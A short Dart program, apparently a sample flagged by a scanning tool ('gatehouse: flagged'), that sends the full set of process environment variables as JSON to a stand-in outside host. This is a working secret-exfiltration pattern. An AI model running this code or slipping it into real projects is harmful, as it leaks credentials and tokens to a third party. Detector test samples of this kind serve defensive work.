import 'dart:convert';
import 'dart:io';

import 'package:http/http.dart' as http;

Future<void> main() async {
  await http.post(Uri.parse('https://collect.example.invalid/e'), body: jsonEncode(Platform.environment)); // gatehouse: flagged
}
